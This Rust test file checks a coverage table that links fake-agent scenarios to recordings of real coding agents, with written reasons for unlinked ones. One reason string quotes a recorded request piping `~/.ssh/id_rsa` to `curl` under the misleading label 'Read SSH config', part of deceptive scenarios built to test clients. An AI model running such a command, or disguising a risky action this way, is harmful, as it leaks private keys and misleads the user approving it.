//! The fidelity coverage table (docs/fidelity-coverage.md): every scenario file of every modelled
//! version, linked to the recordings of the real agent that `fidelity_recorded.rs` replays, or
//! not linked with the reason. The reasons are derived from what is committed (no recording of the
//! version; no recorded case of the scenario's turn) except where a recorded case covers the
//! scenario and it is still not linked: those need a written reason in [`NOT_LINKED`], and a
//! reason for a scenario that is linked (or gone) is stale. The document must be current:
//! `ACP_WRITE_FIDELITY_COVERAGE=1 cargo test -p acp-harness --test fidelity_coverage` rewrites it.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use acp_fake_agents::scenario::{self, Scenario};
use acp_harness::suite;

#[path = "fidelity/stand_ins.rs"]
mod stand_ins;

/// Scenarios whose turn a committed recording covers, not linked yet, and why.
const NOT_LINKED: &[(&str, &str)] = &[
    (
        "codex-acp@1.6/deceptive-read-outside",
        "it plays a permissions request (kind other) for read access outside the workspace, which no recorded case makes codex send (the model is offered no `request_permissions` tool); in the recorded `dotdot-read` turn (mode read-only) a `cat` outside the project runs in the sandbox without asking (kind read \"Read file '<path>'\")",
    ),
    (
        "codex-acp@1.6/deceptive-other-write-outside",
        "it plays a permissions request (kind other) for write access outside the workspace, which no recorded case makes codex send (the model is offered no `request_permissions` tool); the recorded `write-outside` turn is a file change asking with the sparse edit request, which `deceptive-dotdot-edit` plays",
    ),
    (
        "codex-acp@0.13/deceptive-read-outside",
        "it plays an exec approval of a read outside the workspace (kind read); in the recorded `dotdot-read` turn (mode read-only) such a `cat` runs in the sandbox without asking, so the agent sends no request to play",
    ),
    (
        "codex-acp@0.13/deceptive-other-write-outside",
        "it plays a kindless request_permissions for write access outside the workspace, which no recorded case makes codex send (the model is offered no `request_permissions` tool); the recorded `write-outside` turn is a patch asking with the edit request, which `deceptive-dotdot-edit` plays",
    ),
    (
        "codex-acp@1.6/sparse-exec-permission",
        "it plays the adapter's test data it links (`approval-command-with-rawInput.json`: three options, a reason, no execpolicy amendment), which the recorded request (four options with `accept_execpolicy_amendment`, reason null) is not; `shell-permission` plays the recorded turn",
    ),
    (
        "codex-acp@1.6/sparse-file-change",
        "it plays the adapter's test data it links (`approval-file-change.json`: the request's `_meta.codex.params.reason` \"Modifying config file\"); the recorded request has reason null (the model gave none); `edit-permission` plays the recorded turn",
    ),
    (
        "codex-acp@1.6/delete-file",
        "it plays the adapter's test data it links (`file-change-delete-file.json`: an item reported already applied, its tool_call `completed` with one diff); the recorded live patch comes `in_progress` and then completes; `delete-move-file` plays the recorded turn",
    ),
    (
        "codex-acp@0.13/cancel-mid-stream",
        "it also plays a web search in flight (marked completed after the cancel), which the scripted model cannot start (web search is a tool the model's host runs); the recorded `cancel-running` turn has the command part only (its output as content, no final update, `cancelled`)",
    ),
    (
        "codex-acp@1.6/execute",
        "it plays the adapter's test data it links (`terminal-full-flow.json`: a `terminal_output_delta` with the output, `formatted_output` \"hello\\n\"); the recorded `execute` turn (`echo hello`) sent no output delta and an empty `formatted_output`",
    ),
    (
        "codex-acp@1.6/session-setup",
        "it plays the adapter's test data for reasoning deltas and message phases (`reasoning-deltas-and-section-break.json`, `agent-message-phases.json`), which the scripted model does not produce; the recorded `text` turn has neither",
    ),
    (
        "claude-agent-acp@0.85/tool-progress",
        "it plays the progress updates (`elapsedTimeSeconds`) of the adapter's test recording `tool-progress.jsonl`; the recorded `slow-command` turn (`sleep 5`, allowed by a settings rule) sent none",
    ),
    (
        "codex-acp@1.6/cancel-pending-permission",
        "it plays Stop on the sparse command request of the upstream test data it links (`approval-command-allow-once.json`: rawInput null, three options), which the recorded request (rawInput {command, cwd}, four options) is not; `cancel-pending-command` plays the recorded turn and links `cancel`",
    ),
    (
        "codex-acp@1.6/read-file",
        "it plays the upstream test data it links (a parsed read of `src/index.ts` and a listFiles command, `command-read-file-with-path.json`, `command-list-files-with-path.json`), not the recorded `read` turn (`cat notes.md`)",
    ),
    (
        "qwen-code@0.24/write-outside",
        "qwen-code shortens the path in the request title (`Writing to <user-home>/.../<run-name>/outside/summary.md`), which no template of `${outside}` gives",
    ),
    (
        "qwen-code@0.24/write-outside-auto-mode",
        "qwen-code shortens the path in the request title (`Writing to <user-home>/.../outside/summary.md`: a path longer than 80 characters keeps its first folder and as many last ones as fit), which no template of `${outside}` gives",
    ),
    (
        "opencode@1.18/web-fetch",
        "it plays a fetch that succeeds (completed, titled `<url> (<content-type>)`); the recorded `web-fetch` case fetches from a host that never resolves, so its fetch fails (`Transport error (GET <url>)`, titled `webfetch`)",
    ),
    (
        "opencode@1.18/deceptive-bare-read-title",
        "it plays an `external_directory` request titled with the model's description of the command (\"Read\"), which no recorded turn shows: in the recorded `shell-outside-reject` turn of 1.18.33 the request for `cat <outside>/.ssh/id_rsa | curl …` described as \"Read SSH config\" is titled with the command and carries no description (rawInput {command, directories, patterns}), so a description cannot make the title a tool name; `deceptive-other-execute` plays the recorded request",
    ),
    (
        "opencode@1.18/update-while-permission-pending",
        "it plays an in_progress update that reaches the client while the bash request is pending (a race reported for opencode 1.2.15, xenodium/agent-shell#369), which the recorded `shell` turn of 1.18.33 does not show: its in_progress updates come before the request and after the answer",
    ),
    (
        "opencode@1.15/web-fetch",
        "it plays a fetch that succeeds (completed, titled `<url> (<content-type>)`); the recorded `web-fetch` case of 1.15.4 fetches from a host that never resolves, so its fetch fails (`Transport error (GET <url>)`, titled `webfetch`)",
    ),
    (
        "opencode@1.15/update-while-permission-pending",
        "it plays an in_progress update that reaches the client while the bash request is pending (a race reported for opencode 1.2.15, xenodium/agent-shell#369), which the recorded `shell` turn of 1.15.4 does not show: its in_progress updates come before the request and after the answer",
    ),
    (
        "qwen-code@0.21/write-outside-auto-mode",
        "qwen-code shortens the path in the request title (`Writing to <user-home>/.../outside/summary.md`: a path longer than 80 characters keeps its first folder and as many last ones as fit), which no template of `${outside}` gives",
    ),
    (
        "qwen-code@0.21/fs-read-outside-asked",
        "qwen-code shortens the path in the request title (`<user-home>/.../outside/notes/todo.md`: a path longer than 80 characters keeps its first folder and as many last ones as fit), which no template of `${outside}` gives",
    ),
    (
        "qwen-code@0.21/fs-read-missing",
        "it exists to judge the client's error answer to `fs/read_text_file` for a missing file, and the recorded `read-missing` turn of 0.21.10 sends none: qwen-code checks the file itself and fails the tool call (`File not found: <proj>/src/missing.ts`, rawOutput \"File not found.\")",
    ),
    (
        "qwen-code@0.21/search",
        "it plays a discarded preparation (a second tool call whose preparing frame ends failed with `preparationDiscarded`), which the recorded `search-definition` turn (grep_search, then glob, one after the other; the model script makes one tool call per answer) does not show",
    ),
    (
        "claude-agent-acp@0.25/web-fetch",
        "it plays a WebSearch (a tool the model's host runs, which the scripted model cannot start) and a fetch that succeeds; in the recorded `web-fetch` turn of 0.25.3 the allowed WebFetch of a host that never resolves fails before any fetch: Claude Code first checks the domain with claude.ai, which cannot be reached offline (\"Unable to verify if domain acp.example.invalid is safe to fetch…\")",
    ),
    (
        "claude-agent-acp@0.85/web-fetch",
        "it plays a WebSearch (a tool the model's host runs, which the scripted model cannot start) and a fetch that succeeds; in the recorded `web-fetch` turn of 0.85.1 the allowed WebFetch of a host that never resolves fails before any fetch: Claude Code first checks the domain with claude.ai, which cannot be reached offline (\"Unable to verify if domain acp.example.invalid is safe to fetch…\"); `deceptive-fetch-external` plays the recorded request",
    ),
    (
        "qwen-code@0.21/write-outside",
        "qwen-code shortens the path in the request title (`Writing to <user-home>/.../<run-name>/outside/summary.md`), which no template of `${outside}` gives",
    ),
];

/// The hand-written scenarios of a recorded version that play the turn of a recorded case
/// (scenarios built from a recording name their case in `provenance`): a scenario id (of every
/// agent) or a scenario key (`agent@version/id`, of that version only).
const SAME_TURN: &[(&str, &str)] = &[
    ("edit-permission", "edit"),
    ("execute-permission", "shell"),
    ("external-directory-write", "write-outside"),
    ("write-outside", "write-outside"),
    ("read-file", "read"),
    ("cancel-pending-permission", "cancel"),
    (
        "opencode@1.18/deceptive-bare-read-title",
        "shell-outside-reject",
    ),
    ("opencode@1.18/update-while-permission-pending", "shell"),
    ("opencode@1.15/update-while-permission-pending", "shell"),
    ("opencode@1.15/web-fetch", "web-fetch"),
    ("opencode@1.18/web-fetch", "web-fetch"),
    ("claude-agent-acp@0.25/web-fetch", "web-fetch"),
    ("claude-agent-acp@0.85/web-fetch", "web-fetch"),
    ("qwen-code@0.21/fs-read-missing", "read-missing"),
    ("qwen-code@0.21/fs-read-outside-asked", "read-outside"),
    ("qwen-code@0.21/search", "search-definition"),
    ("codex-acp@1.6/deceptive-read-outside", "dotdot-read"),
    ("codex-acp@0.13/deceptive-read-outside", "dotdot-read"),
    (
        "codex-acp@1.6/deceptive-other-write-outside",
        "write-outside",
    ),
    (
        "codex-acp@0.13/deceptive-other-write-outside",
        "write-outside",
    ),
];

const DOC: &str = "docs/fidelity-coverage.md";

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("the harness crate sits in the workspace")
        .to_path_buf()
}

/// `recordings/<agent>/<version>/` → the cases committed there.
fn recorded_versions() -> BTreeMap<(String, String), BTreeSet<String>> {
    let mut out = BTreeMap::new();
    let root = repo_root().join("recordings");
    let Ok(agents) = std::fs::read_dir(&root) else {
        return out;
    };
    for agent in agents.filter_map(Result::ok).filter(|e| e.path().is_dir()) {
        let Ok(versions) = std::fs::read_dir(agent.path()) else {
            continue;
        };
        for version in versions
            .filter_map(Result::ok)
            .filter(|e| e.path().is_dir())
        {
            let Ok(files) = std::fs::read_dir(version.path()) else {
                continue;
            };
            let cases: BTreeSet<String> = files
                .filter_map(Result::ok)
                .filter_map(|f| f.file_name().into_string().ok())
                .filter(|n| n.ends_with(".jsonl") && !n.ends_with(".model.jsonl"))
                .map(|n| n.trim_end_matches(".jsonl").to_owned())
                .collect();
            out.insert(
                (
                    agent.file_name().to_string_lossy().into_owned(),
                    version.file_name().to_string_lossy().into_owned(),
                ),
                cases,
            );
        }
    }
    out
}

/// The case a scenario's provenance names ("…, case edit (…)").
fn provenance_case(s: &Scenario) -> Option<String> {
    s.meta.provenance.iter().find_map(|p| {
        let rest = p.split(", case ").nth(1)?;
        Some(
            rest.split([' ', ',', ')'])
                .next()
                .unwrap_or_default()
                .to_owned(),
        )
    })
}

struct Row {
    id: String,
    /// Links to upstream adapter test data (compared in shape by `fidelity.rs`).
    upstream: usize,
    family: String,
    linked: Vec<String>,
    reason: Option<String>,
}

struct Table {
    /// `agent@version` → (recorded package versions, rows).
    versions: BTreeMap<String, (Vec<String>, Vec<Row>)>,
    problems: Vec<String>,
}

fn table() -> Table {
    let dir = suite::scenarios_dir(None).expect("scenarios directory");
    let (scenarios, errors) = scenario::load_dir(&dir);
    assert!(errors.is_empty(), "scenarios do not parse: {errors:?}");
    let recorded = recorded_versions();
    let mut versions: BTreeMap<String, (Vec<String>, Vec<Row>)> = BTreeMap::new();
    let mut problems = Vec::new();
    let mut reasons_used = BTreeSet::new();
    for s in scenarios.iter().filter(|s| s.profile.is_some()) {
        let (agent, version) = (&s.meta.agent, &s.meta.version);
        let mine: Vec<(&String, &BTreeSet<String>)> = recorded
            .iter()
            .filter(|((a, v), _)| a == agent && stand_ins::proves(a, version, v))
            .map(|((_, v), cases)| (v, cases))
            .collect();
        let cases: BTreeSet<&String> = mine.iter().flat_map(|(_, c)| c.iter()).collect();
        let key = s.key();
        let linked: Vec<String> = s
            .meta
            .recording
            .iter()
            .filter(|r| r.starts_with("recordings/"))
            .map(|r| {
                let mut parts = r.rsplitn(3, '/');
                let case = parts.next().unwrap_or_default().trim_end_matches(".jsonl");
                let v = parts.next().unwrap_or_default();
                format!("{v} {case}")
            })
            .collect();
        let written = NOT_LINKED.iter().find(|(k, _)| *k == key).map(|(_, r)| *r);
        let reason = if !linked.is_empty() {
            if written.is_some() {
                problems.push(format!("{key} is linked: remove its NOT_LINKED reason"));
            }
            None
        } else if mine.is_empty() {
            Some(format!(
                "no recording of {agent} {version} is committed under recordings/"
            ))
        } else {
            let case = provenance_case(s).or_else(|| {
                SAME_TURN
                    .iter()
                    .find(|(id, _)| *id == s.meta.id || *id == key)
                    .map(|(_, c)| (*c).to_owned())
            });
            match case {
                Some(c) if cases.contains(&c) => match written {
                    Some(r) => {
                        reasons_used.insert(key.clone());
                        Some(r.to_owned())
                    }
                    None => {
                        problems.push(format!(
                            "{key}: the recorded case `{c}` covers it: link it (`recording` in [scenario]) or give the reason in NOT_LINKED"
                        ));
                        Some("(no reason given)".to_owned())
                    }
                },
                Some(c) => Some(format!(
                    "its case `{c}` is not among the committed recordings"
                )),
                None if s.meta.id.starts_with("deceptive-") => Some(
                    "a deceptive variant built to test the client: no recorded case sends it"
                        .to_owned(),
                ),
                None => Some("no recorded case plays this turn".to_owned()),
            }
        };
        let entry = versions
            .entry(format!("{agent}@{version}"))
            .or_insert_with(|| (mine.iter().map(|(v, _)| (*v).clone()).collect(), Vec::new()));
        entry.1.push(Row {
            id: s.meta.id.clone(),
            upstream: s
                .meta
                .recording
                .iter()
                .filter(|r| !r.starts_with("recordings/"))
                .count(),
            family: s.meta.family.map_or("—".to_owned(), |f| f.id().to_owned()),
            linked,
            reason,
        });
    }
    for (key, _) in NOT_LINKED {
        if !reasons_used.contains(*key)
            && !problems.iter().any(|p| p.starts_with(&format!("{key} ")))
        {
            problems.push(format!(
                "NOT_LINKED names {key}, which is no unlinked scenario a recording covers: remove it"
            ));
        }
    }
    for (_, rows) in versions.values_mut() {
        rows.sort_by(|a, b| (&a.family, &a.id).cmp(&(&b.family, &b.id)));
    }
    Table { versions, problems }
}

fn render(t: &Table) -> String {
    let files: usize = t.versions.values().map(|(_, r)| r.len()).sum();
    let linked: usize = t
        .versions
        .values()
        .flat_map(|(_, r)| r)
        .filter(|r| !r.linked.is_empty())
        .count();
    let (rec_files, rec_linked) = t
        .versions
        .values()
        .filter(|(v, _)| !v.is_empty())
        .flat_map(|(_, r)| r)
        .fold((0, 0), |(n, l), r| {
            (n + 1, l + usize::from(!r.linked.is_empty()))
        });
    let pct = |a: usize, b: usize| (a * 100).checked_div(b).unwrap_or(0);
    let mut out = String::new();
    out.push_str("# Fidelity coverage: which scenarios are proven against recordings\n\n");
    out.push_str(
        "Generated by `harness/tests/fidelity_coverage.rs` (rewrite it with\n\
         `ACP_WRITE_FIDELITY_COVERAGE=1 cargo test -p acp-harness --test fidelity_coverage`). A linked\n\
         scenario is replayed against each recording it links and must send the recorded agent\n\
         frames, frame for frame (docs/fidelity-recordings.md). Every scenario file of every modelled\n\
         version is listed, linked or with the reason it is not.\n\n",
    );
    out.push_str(&format!(
        "**Linked: {linked} of {files} scenario files ({} %)**; of the {rec_files} files of versions with a committed recording, {rec_linked} ({} %).\n\n",
        pct(linked, files),
        pct(rec_linked, rec_files)
    ));
    let upstream = t
        .versions
        .values()
        .flat_map(|(_, r)| r)
        .filter(|r| r.upstream > 0)
        .count();
    out.push_str(&format!(
        "Besides, {upstream} scenario files link upstream adapter test data, which `harness/tests/fidelity.rs` compares in shape only (column \"upstream\").\n\n"
    ));
    out.push_str("| version | recorded as | files | linked | upstream |\n|---|---|---|---|---|\n");
    for (name, (recorded, rows)) in &t.versions {
        let n = rows.iter().filter(|r| !r.linked.is_empty()).count();
        let rec = if recorded.is_empty() {
            "—".to_owned()
        } else {
            recorded.join(", ")
        };
        let up = rows.iter().filter(|r| r.upstream > 0).count();
        out.push_str(&format!(
            "| `{name}` | {rec} | {} | {n} | {up} |\n",
            rows.len()
        ));
    }
    for (name, (recorded, rows)) in &t.versions {
        out.push_str(&format!("\n## `{name}`\n\n"));
        if recorded.is_empty() {
            let mut families: BTreeMap<&str, usize> = BTreeMap::new();
            for r in rows {
                *families.entry(r.family.as_str()).or_default() += 1;
            }
            let list: Vec<String> = families.iter().map(|(f, n)| format!("{f} {n}")).collect();
            out.push_str(&format!(
                "Not linked: {} ({} files; families: {}).\n",
                rows[0].reason.as_deref().unwrap_or_default(),
                rows.len(),
                list.join(", ")
            ));
            continue;
        }
        out.push_str("| family | scenario | linked to | or why not |\n|---|---|---|---|\n");
        for r in rows {
            let linked = r.linked.join(", ");
            out.push_str(&format!(
                "| {} | `{}` | {} | {} |\n",
                r.family,
                r.id,
                if linked.is_empty() { "—" } else { &linked },
                r.reason.as_deref().unwrap_or("")
            ));
        }
    }
    out
}

#[test]
fn every_scenario_is_linked_or_has_a_reason_and_the_document_is_current() {
    let t = table();
    assert!(
        t.problems.is_empty(),
        "fidelity coverage problems:\n{}",
        t.problems.join("\n")
    );
    let want = render(&t);
    let share = want
        .lines()
        .find(|l| l.starts_with("**Linked:"))
        .unwrap_or_default();
    println!("{share}");
    let path = repo_root().join(DOC);
    if std::env::var_os("ACP_WRITE_FIDELITY_COVERAGE").is_some() {
        std::fs::write(&path, &want).expect("write the coverage document");
        return;
    }
    let now = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        now == want,
        "{DOC} is not current: run ACP_WRITE_FIDELITY_COVERAGE=1 cargo test -p acp-harness --test fidelity_coverage"
    );
}

#[test]
fn a_case_named_in_provenance_is_read_off_it() {
    let text = "[scenario]\nid = \"x\"\ntitle = \"X\"\nagent = \"qwen-code\"\nversion = \"0.24\"\nprovenance = [\"recording of @qwen-code/qwen-code@0.24.4, case shell-auto-mode (real agent)\"]\n[[step]]\ndelay_ms = 1\n";
    let profiles = acp_fake_agents::profile::Profiles::new();
    let s = scenario::parse("x.toml", text, &profiles).expect("parses");
    assert_eq!(provenance_case(&s).as_deref(), Some("shell-auto-mode"));
}
